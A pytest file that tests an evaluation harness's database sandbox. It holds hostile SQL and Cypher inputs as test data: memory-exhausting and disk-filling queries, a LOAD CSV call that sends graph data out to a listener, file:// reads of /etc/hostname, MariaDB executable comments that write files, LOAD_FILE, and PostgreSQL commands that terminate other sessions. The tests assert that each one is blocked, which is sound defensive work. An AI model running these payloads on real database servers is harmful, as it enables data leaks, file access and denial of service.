"""Untrusted SQL and Cypher against the engines' own limits (docs/security.md, issue 24 "Engines and servers"):
memory past the cap, disk in BIRD's private copy, the graph server reaching out, executable comments on
MariaDB, one PostgreSQL session signalling another.  Real engines throughout; small caps keep each test
to seconds.
"""

from __future__ import annotations

import sqlite3
import time
from pathlib import Path

import pytest

from evaluators.execution import worker
from evaluators.execution.backends.base import Request
from evaluators.execution.backends.settings import MySQLSettings, PostgresSettings
from evaluators.execution.executor import ExecConfig, run_sql
from evaluators.execution.row_queries import RowQuery, RowRunner

LIMIT_MB = 64  # the --memory-limit-mb of these tests: a 32 MB fetch budget, a worker cap of a few hundred MB
PEAK_CEILING_MB = 1200  # a worker that kept the rows would be far past this (the attacks below ask for 1-3 GB)
MEMORY_REASONS = ("result_too_large", "memory_limit")


def _rows_of(count: int) -> str:
    return f"WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c WHERE x < {count}) "


@pytest.fixture(scope="module")
def tiny_sqlite(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("engines") / "tiny.sqlite"
    con = sqlite3.connect(path)
    con.execute("CREATE TABLE t (id INTEGER, name TEXT)")
    con.executemany("INSERT INTO t VALUES (?, ?)", [(1, "a"), (2, "b")])
    con.commit()
    con.close()
    return path


def _config(tmp_path: Path, **extra) -> ExecConfig:
    return ExecConfig(output_dir=tmp_path / "out", memory_limit_mb=LIMIT_MB, timeout_s=20, **extra)


def _peak_rss_mb() -> float:
    """The highest resident size any idle SQL worker of this process reached (VmHWM)."""
    peaks = [0.0]
    for process in worker.pool().idle:
        try:
            status = Path(f"/proc/{process.pid}/status").read_text()
        except OSError:
            continue
        peaks += [int(line.split()[1]) / 1024 for line in status.splitlines() if line.startswith("VmHWM:")]
    return max(peaks)


def _fresh_workers() -> None:
    worker.kill_all()  # each test's peak is its own


# ---------------------------------------------------------------- memory: rows fetched into Python


@pytest.mark.parametrize(
    ("backend", "collect", "sql"),
    [
        # 40 rows of 25 MB random blobs (1 GB), then 2 GB of text in 200,000 rows of 10 KB
        ("sqlite", "csv", _rows_of(40) + "SELECT randomblob(25000000) FROM c"),
        ("sqlite", "inline", _rows_of(200000) + "SELECT printf('%.*c', 10000, 'x') FROM c"),
        ("duckdb", "inline", "SELECT repeat('y', 5000000) AS s FROM range(300)"),
        ("duckdb", "csv", "SELECT repeat('z', 1000) || range AS s FROM range(2000000)"),
    ],
)
def test_rows_fetched_into_python_stay_under_the_memory_cap(backend, collect, sql, tiny_sqlite, tmp_path):
    _fresh_workers()
    db = str(tiny_sqlite) if backend == "sqlite" else None
    result = run_sql(backend, db, sql, _config(tmp_path), tmp_path / "r.csv", collect=collect)
    assert not result.ok and result.reason in MEMORY_REASONS, (result.reason, result.detail)
    assert _peak_rss_mb() < PEAK_CEILING_MB
    small = run_sql(backend, db, "SELECT 41 + 1", _config(tmp_path), tmp_path / "s.csv", collect=collect)
    assert small.ok and small.first_cell == 42  # the same worker (its cap lifted) answers the next query


def test_a_submitted_duckdb_view_is_read_under_the_memory_cap(tmp_path):
    import duckdb

    from evaluators.errors import InstanceError
    from evaluators.execution.executor import read_duckdb_tables

    _fresh_workers()
    answer = tmp_path / "answer.duckdb"
    con = duckdb.connect(str(answer))
    con.execute("CREATE VIEW t AS SELECT repeat('v', 2000) || range AS s FROM range(1500000)")  # 3 GB as a frame
    con.execute("CREATE TABLE small AS SELECT 1 AS a")
    con.close()
    try:
        tables = read_duckdb_tables(answer, None, _config(tmp_path))
    except InstanceError as exc:
        assert exc.reason == "memory_limit", exc
    else:
        assert "Out of Memory" in tables.errors["t"] and "t" not in tables.frames, tables.errors
    assert _peak_rss_mb() < PEAK_CEILING_MB
    assert read_duckdb_tables(answer, ["small"], _config(tmp_path)).frames["small"].iat[0, 0] == 1


def test_an_rl_reward_query_is_capped_like_any_other(tiny_sqlite, tmp_path):
    _fresh_workers()
    with RowRunner(jobs=1, config=_config(tmp_path)) as runner:
        big = runner.run(RowQuery("sqlite", str(tiny_sqlite), _rows_of(30) + "SELECT zeroblob(40000000), x FROM c"))
        fine = runner.run(RowQuery("sqlite", str(tiny_sqlite), "SELECT name FROM t ORDER BY id"))
    assert not big.ok and big.reason in MEMORY_REASONS, big
    assert fine.ok and fine.rows == (("a",), ("b",))
    assert _peak_rss_mb() < PEAK_CEILING_MB


# ---------------------------------------------------------------- BIRD's private copy: memory and disk


def _official_pair(tiny_sqlite: Path, tmp_path: Path, sql: str, gold: str = "SELECT 1") -> dict:
    copy = tmp_path / "work" / "bird" / "copy.sqlite"
    request = Request("sqlite", sql, str(copy), str(tiny_sqlite), _config(tmp_path).settings("sqlite"), {}, "inline")
    event = worker.execute(request, "official_pair", gold_sql=gold)
    assert not copy.exists()  # removed whatever happened
    return event


def test_birds_private_copy_cannot_fill_the_disk(tiny_sqlite, tmp_path):
    before = tiny_sqlite.read_bytes()
    grow = "INSERT INTO t(name) " + _rows_of(100000) + "SELECT hex(randomblob(20000)) FROM c"
    event = _official_pair(tiny_sqlite, tmp_path, grow)
    assert event["reason"] == "disk_limit", event
    assert "database or disk is full" in event["detail"]
    # nor lift the cap first, nor write a file elsewhere
    for sql in ("PRAGMA max_page_count = 2147483647", "VACUUM INTO '/tmp/stolen.sqlite'", "PRAGMA temp_store = FILE"):
        event = _official_pair(tiny_sqlite, tmp_path, sql)
        assert event["reason"] == "exec_error", (sql, event)
    assert not Path("/tmp/stolen.sqlite").exists()
    assert tiny_sqlite.read_bytes() == before
    # a small write and a read-only PRAGMA still run the official way
    assert _official_pair(tiny_sqlite, tmp_path, "INSERT INTO t VALUES (3, 'c')")["reason"] == "ok"
    assert _official_pair(tiny_sqlite, tmp_path, "PRAGMA table_info(t)")["reason"] == "ok"


def test_birds_private_copy_fetch_is_capped(tiny_sqlite, tmp_path):
    _fresh_workers()
    event = _official_pair(tiny_sqlite, tmp_path, _rows_of(50) + "SELECT randomblob(30000000) FROM c")
    assert event["reason"] in MEMORY_REASONS, event
    assert event["detail"].startswith("pred:")
    assert _peak_rss_mb() < PEAK_CEILING_MB


# ---------------------------------------------------------------- the graph server: outbound loads and memory


def _graph_setup(tmp_path: Path) -> tuple[ExecConfig, Path]:
    dbs = tmp_path / "dbs"
    dbs.mkdir()
    (dbs / "g.cypher").write_text("CREATE (:Person {name: 'Ann'});\nCREATE (:Person {name: 'Bo'});\n")
    return ExecConfig(output_dir=tmp_path / "work", db_dir=dbs, memory_limit_mb=LIMIT_MB, timeout_s=20), dbs


class _Listener:
    """A TCP port on 127.0.0.1 that counts who connects (the outbound request LOAD CSV would make)."""

    def __init__(self) -> None:
        import socket
        import threading

        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen(8)
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self.running = True
        self.thread = threading.Thread(target=self._accept, daemon=True)
        self.thread.start()

    def _accept(self) -> None:
        while self.running:
            try:
                client, _ = self.server.accept()
            except OSError:
                continue
            self.connections += 1
            client.close()

    def close(self) -> None:
        self.running = False
        self.thread.join()
        self.server.close()


def test_load_csv_is_refused_and_the_server_reads_no_file(tmp_path):
    pytest.importorskip("falkordb")
    from evaluators.execution.executor import graph_ref
    from evaluators.execution.graphs import server_for

    config, _ = _graph_setup(tmp_path)
    listener = _Listener()
    url = f"https://127.0.0.1:{listener.port}/leak"  # FalkorDB fetches https (http is "Unsupported URI")
    payloads = [
        f"MATCH (p:Person) WITH collect(p.name) AS names LOAD CSV FROM '{url}?d=' + names[0] AS r RETURN r",
        f'load csv with headers from "{url}" as row return count(row)',
        f"CALL {{ LOAD /* x */ CSV FROM '{url}' AS r RETURN r }} RETURN count(*)",
        "LOAD CSV FROM 'file:///etc/hostname' AS r RETURN r",
    ]
    try:
        for query in payloads:
            result = run_sql("cypher", "g", query, config, tmp_path / "r.csv", collect="inline")
            assert result.reason == "exec_error" and "LOAD CSV" in result.detail, (query, result)
            # KG Valid's validators run queries built from the prediction's patterns: refused there too
            ref = graph_ref("g", config)
            event = worker.execute(Request("cypher", query, "", ref, config.settings("cypher"), {}, "csv"), "kg_valid")
            assert event["reason"] == "exec_error" and "LOAD CSV" in event["detail"], event
        time.sleep(0.3)
        assert listener.connections == 0
        # A name or a string that only mentions it is a query like any other.
        fine = run_sql("cypher", "g", "MATCH (p) WHERE p.name <> 'load csv' RETURN count(p)", config, tmp_path / "f")
        assert fine.ok and fine.first_cell == 2
        # Behind the grader's check, the server itself reads no file: its import folder is empty and its own.
        server = server_for(config.output_dir)
        settings = dict(server.client.connection.execute_command("GRAPH.CONFIG", "GET", "*"))
        assert Path(settings["IMPORT_FOLDER"]).resolve() == (config.output_dir / "cypher" / "import-empty").resolve()
        assert list(Path(settings["IMPORT_FOLDER"]).iterdir()) == []
        assert settings["QUERY_MEM_CAPACITY"] == LIMIT_MB * 1024 * 1024
        graph = server.client.select_graph(server.built[next(iter(server.built))])
        for target in ("file:///etc/hostname", "file://../../../../etc/hostname"):
            with pytest.raises(Exception, match="(?i)error opening csv"):
                graph.ro_query(f"LOAD CSV FROM '{target}' AS r RETURN r")
    finally:
        listener.close()


def test_a_query_that_grows_the_graph_server_is_stopped_at_its_memory_cap(tmp_path):
    pytest.importorskip("falkordb")
    config, _ = _graph_setup(tmp_path)
    for query in (
        "UNWIND range(1, 40000000) AS x WITH collect(x) AS l RETURN size(l)",
        "UNWIND range(1, 3000000) AS x RETURN size(collect(toString(x) + '-padding-padding-padding'))",
    ):
        result = run_sql("cypher", "g", query, config, tmp_path / "r.csv")
        assert result.reason == "memory_limit", (query, result)
    after = run_sql("cypher", "g", "MATCH (p:Person) RETURN count(p)", config, tmp_path / "after.csv")
    assert after.ok and after.first_cell == 2  # the same server goes on


# ---------------------------------------------------------------- PostgreSQL and MariaDB


def _server_config(tmp_path: Path, postgres_server=None, mariadb_server=None, **extra) -> ExecConfig:
    return ExecConfig(
        output_dir=tmp_path / "out",
        postgres=PostgresSettings(postgres_server.dsn if postgres_server else None),
        mysql=MySQLSettings(mariadb_server.dsn if mariadb_server else None),
        memory_limit_mb=LIMIT_MB,
        timeout_s=20,
        **extra,
    )


@pytest.fixture(scope="module")
def maria(mariadb_server):
    """A database `engines` the grader may only read (no FILE, no SUPER: docs/backends.md)."""
    con = mariadb_server.admin()
    try:
        cursor = con.cursor()
        cursor.execute("CREATE DATABASE IF NOT EXISTS engines")
        cursor.execute("GRANT SELECT ON engines.* TO 'grader'@'%'")
    finally:
        con.close()
    return mariadb_server


@pytest.mark.parametrize(
    ("engine", "sql"),
    [
        ("postgres", "SELECT repeat(md5(g::text), 300000) FROM generate_series(1, 400) AS g"),  # 3.8 GB of text
        ("postgres", "SELECT g, repeat('w', 1000) FROM generate_series(1, 2000000) AS g"),  # 2 GB in small rows
        ("mysql", "SELECT REPEAT(MD5(seq), 200000) FROM seq_1_to_500"),  # 3.2 GB of text
    ],
)
def test_server_results_stay_under_the_memory_cap(engine, sql, postgres_server, maria, tmp_path):
    _fresh_workers()
    config = _server_config(tmp_path, postgres_server, maria)
    database = "postgres" if engine == "postgres" else "engines"
    result = run_sql(engine, database, sql, config, tmp_path / "r.csv", collect="inline")
    assert not result.ok and result.reason in MEMORY_REASONS, (result.reason, result.detail)
    assert _peak_rss_mb() < PEAK_CEILING_MB
    fine = run_sql(engine, database, "SELECT 6 * 7", config, tmp_path / "f.csv")
    assert fine.ok and fine.first_cell == 42


@pytest.mark.parametrize(
    "comment",
    [
        "/*! INTO OUTFILE '{path}' */",
        "/*!50000 INTO OUTFILE '{path}' */",
        "/*M!100000 INTO DUMPFILE '{path}' */",
        "/*m! INTO OUTFILE '{path}' */",
        "-- x\n/*!INTO OUTFILE '{path}'*/",
    ],
)
def test_mariadb_executable_comments_are_refused(comment, maria, tmp_path):
    target = tmp_path / "written-by-the-server.txt"
    tmp_path.chmod(0o777)  # the server's user could write here, had it been asked
    sql = f"SELECT 'leak' AS a FROM DUAL {comment.format(path=target)}"
    result = run_sql("mysql", "engines", sql, _server_config(tmp_path, mariadb_server=maria), tmp_path / "r")
    assert result.reason == "exec_error" and "executable comment" in result.detail, result
    assert not target.exists()


def test_a_grader_account_without_file_reads_no_server_file(maria, tmp_path):
    """`LOAD_FILE()` is one read-only query, so no check of ours refuses it: the account's privileges are
    what stop it, which is why docs/backends.md asks for an account without FILE."""
    secret = Path("/etc/hostname")
    config = _server_config(tmp_path, mariadb_server=maria)
    result = run_sql("mysql", "engines", f"SELECT LOAD_FILE('{secret}') AS f", config, tmp_path / "r.csv")
    assert result.ok and result.first_cell is None, result


def test_an_executable_comment_would_have_written_the_file(maria, tmp_path):
    """The control: the same text, run as trusted by an account holding FILE (which the grader's must not,
    docs/backends.md), writes the file; so the refusal above is what stops it."""
    con = maria.admin()
    try:
        con.cursor().execute("CREATE USER IF NOT EXISTS 'filer'@'%' IDENTIFIED BY 'filer-pw'")
        con.cursor().execute("GRANT FILE ON *.* TO 'filer'@'%'")
    finally:
        con.close()
    target = tmp_path / "control.txt"
    tmp_path.chmod(0o777)
    sql = f"SELECT 'leak' AS a FROM DUAL /*! INTO OUTFILE '{target}' */"
    config = ExecConfig(
        output_dir=tmp_path / "out", mysql=MySQLSettings(f"mysql://filer:filer-pw@127.0.0.1:{maria.port}")
    )
    result = run_sql("mysql", None, sql, config, tmp_path / "r", trusted=True)
    if not target.exists():
        pytest.skip(f"this server does not write files for the test account ({result.detail})")
    assert target.read_text().strip() == "leak"


def _pg_roles(postgres_server, prefix: str) -> list[str]:
    with postgres_server.admin() as con:
        rows = con.execute("SELECT rolname FROM pg_roles WHERE starts_with(rolname, %s)", (prefix,)).fetchall()
    return [r[0] for r in rows]


@pytest.mark.parametrize(
    "attack",
    [
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid() AND backend_type = "
        "'client backend'",
        "SELECT count(pg_cancel_backend(pid)) FROM pg_stat_activity WHERE query LIKE '%victim%'",
        "SELECT set_config('role', 'grader', false), pg_terminate_backend(pid) FROM pg_stat_activity "
        "WHERE pid <> pg_backend_pid()",
    ],
)
def test_a_postgres_answer_cannot_stop_other_sessions(attack, postgres_server, tmp_path):
    import threading

    config = _server_config(tmp_path, postgres_server)
    victims: dict = {}

    def victim(name: str, trusted: bool) -> None:
        sql = f"SELECT 'victim-{name}' AS who, pg_sleep(3) IS NULL AS slept"
        victims[name] = run_sql("postgres", "postgres", sql, config, tmp_path / f"{name}.csv", trusted=trusted)

    threads = [threading.Thread(target=victim, args=(n, n == "gold")) for n in ("gold", "answer")]
    for thread in threads:
        thread.start()
    time.sleep(1.2)  # both victims are in pg_sleep
    attacker = run_sql("postgres", "postgres", attack, config, tmp_path / "attack.csv", collect="inline")
    for thread in threads:
        thread.join()
    for name in ("gold", "answer"):
        assert victims[name].ok and victims[name].first_cell == f"victim-{name}", (name, victims[name], attacker)
    assert attacker.ok is False or all(not any(row[-1:]) for row in attacker.rows()[1]), attacker
    # Other sessions' query texts are not visible to an answer either.
    peek = run_sql(
        "postgres", "postgres", "SELECT string_agg(query, ' ') FROM pg_stat_activity", config, tmp_path / "p"
    )
    assert "victim" not in str(peek.first_cell)
    worker.pool().shutdown()  # the run's end: each worker drops its answer role on its way out
    assert _pg_roles(postgres_server, "grader_a_") == []


def test_db_prepare_makes_the_roles_and_an_unprepared_role_is_refused_with_the_hint(postgres_server, tmp_path):
    from helpers_io import run_cli

    with postgres_server.admin() as con:
        con.execute("CREATE ROLE scorer_a_0123456789ab LOGIN")  # an answer role left by a killed grader
        con.execute("CREATE ROLE plain LOGIN")  # a role nobody prepared
    result = run_cli("db", "prepare", "--engine", "postgres", "--dsn", postgres_server.admin_dsn, "--role", "scorer")
    assert result.exit_code == 0, result.output
    assert "role 'scorer': LOGIN CREATEROLE" in result.output and "1 left from earlier runs dropped" in result.output
    with postgres_server.admin() as con:
        attributes = con.execute(
            "SELECT rolcanlogin, rolcreaterole, rolsuper, rolcreatedb, "
            "pg_has_role('scorer', 'pg_signal_backend', 'MEMBER'), "
            "pg_has_role('scorer_answers', 'pg_read_all_data', 'MEMBER'), rolcanlogin "
            "FROM pg_roles WHERE rolname = 'scorer'"
        ).fetchone()
    assert attributes == (True, True, False, False, False, True, True)
    assert _pg_roles(postgres_server, "scorer_a_") == []
    scorer = ExecConfig(
        output_dir=tmp_path / "out",
        postgres=PostgresSettings(f"postgresql://scorer@127.0.0.1:{postgres_server.port}/postgres"),
    )
    assert run_sql("postgres", "postgres", "SELECT 1", scorer, tmp_path / "ok.csv").first_cell == 1
    plain = ExecConfig(
        output_dir=tmp_path / "out",
        postgres=PostgresSettings(f"postgresql://plain@127.0.0.1:{postgres_server.port}/postgres"),
    )
    refused = run_sql("postgres", "postgres", "SELECT 1", plain, tmp_path / "no.csv")
    assert refused.reason == "credentials_missing" and "evaluate.py db prepare" in refused.detail, refused
    assert run_sql("postgres", "postgres", "SELECT 1", plain, tmp_path / "gold.csv", trusted=True).first_cell == 1
    never = run_cli("db", "prepare", "--engine", "postgres", "--dsn", postgres_server.admin_dsn, "--role", "postgres")
    assert never.exit_code == 2 and "is a superuser" in never.output  # the administrator is never demoted


def test_the_caps_base_is_the_data_the_worker_holds_now():
    """`capped` counts a request's allowance from what the worker holds (VmData, what RLIMIT_DATA counts)."""
    from evaluators.execution.memory import data_in_use

    def vm_data() -> int:
        from pathlib import Path

        line = next(x for x in Path("/proc/self/status").read_text().splitlines() if x.startswith("VmData:"))
        return int(line.split()[1]) * 1024

    before = data_in_use()
    assert abs(before - vm_data()) < 4 << 20
    held = bytearray(64 << 20)
    assert data_in_use() - before >= 60 << 20 and abs(data_in_use() - vm_data()) < 4 << 20
    del held
